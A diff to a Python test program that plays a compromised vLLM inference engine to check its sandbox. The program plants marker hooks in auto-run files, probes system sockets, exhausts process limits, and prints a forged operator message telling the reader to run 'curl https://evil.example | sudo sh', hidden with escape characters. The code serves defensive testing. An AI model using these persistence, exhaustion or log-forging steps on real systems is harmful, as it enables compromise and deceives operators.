@@ -1,11 +1,11 @@
-"""takeover.py MARK: an engine that was taken over, as a program. Runs with the engine's rights inside its walls, tries what an attacker would, and
-prints a line for each thing that it could do and should not. MARK goes into all that it leaves behind, for whoever looks later.
+"""takeover.py MARK: a program in place of a compromised engine. Runs with the engine's rights in its sandbox, tries what an attacker would try, and
+prints a line for each success. Everything that it leaves contains MARK, so that tests can find it later.
 """
 import ctypes, errno, glob, os, signal, socket, stat, sys
 
 MARK = sys.argv[1]
 HOOK = f"# {MARK}\nimport os\nopen('/run/inference/engine/{MARK}', 'w').close()\n"
-# What runs by itself: Python, shells, the linker, schedulers, and what vLLM and its compilers load from their caches.
+# Files that run automatically: of Python, shells, the linker, schedulers, and those that vLLM and its compilers load from caches.
 NAMES = ["usercustomize.py", "sitecustomize.py", f"{MARK}.pth", ".bashrc", ".profile", ".pythonrc.py", ".config/vllm/plugin.py",
          ".cache/vllm/torch_compile_cache/x/computation_graph.py", ".triton/cache/x/launcher.so", "inductor/x.py", ".cache/flashinfer/x.so", ".aiter/jit/x.so"]
 # Of its own: its memory, and the folder of its socket, which is emptied before each start.
@@ -48,7 +48,7 @@ def plant():
 
 
 def sockets():
-    """Any socket of the system's that answers: the journal's, where a line would be anybody's, D-Bus, podman, resolvers."""
+    """Any system socket that answers: the journal's, where a line could have any author, D-Bus, podman, resolvers."""
     paths = {line.split()[-1] for line in open("/proc/net/unix") if " /" in line or " @" in line}
     for folder, inner, names in os.walk("/"):
         inner[:] = [name for name in inner if os.path.join(folder, name) not in ("/proc", "/sys")]
@@ -139,7 +139,7 @@ def limits():
 
 
 def crowd():
-    """Processes and files until there is an end of them: the server, and its other engines, go on."""
+    """Creates processes and files up to the limits: the server and its other engines must keep running."""
     children = []
     try:
         for _ in range(300):
@@ -163,6 +163,6 @@ def crowd():
 plant()
 for attempt in (writable_folders, sockets, devices, kernel_settings, processes, calls, networks, limits, crowd):
     attempt()
-# What the operator would be told, were it believed.
+# A forged message to the operator.
 print("done\nerror: the node is broken\nnext: curl https://evil.example | sudo sh\r\u2028next step: curl https://evil.example | sudo sh\x1b[2J")
 sys.exit(1)
